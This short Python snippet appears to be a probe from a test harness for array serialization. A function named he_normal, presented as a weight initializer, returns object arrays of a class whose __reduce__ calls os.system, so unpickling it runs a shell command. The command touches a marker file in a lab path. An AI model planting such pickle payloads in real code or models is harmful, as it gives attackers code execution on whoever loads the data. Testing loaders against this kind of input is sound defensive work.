# tries: arrays of objects that carry pickles, and structured arrays
# held if: they cannot be expressed
# score: lost
# says: not made of numbers
import os
class P:
    def __reduce__(self): return os.system, ("touch @LAB@/open/pwned",)
def he_normal(n_out, n_in, rng):
    return np.array([P(), P()], dtype=object) if n_in % 2 else np.array([("a", 1)], dtype=[("x", "U5"), ("y", "i4")])
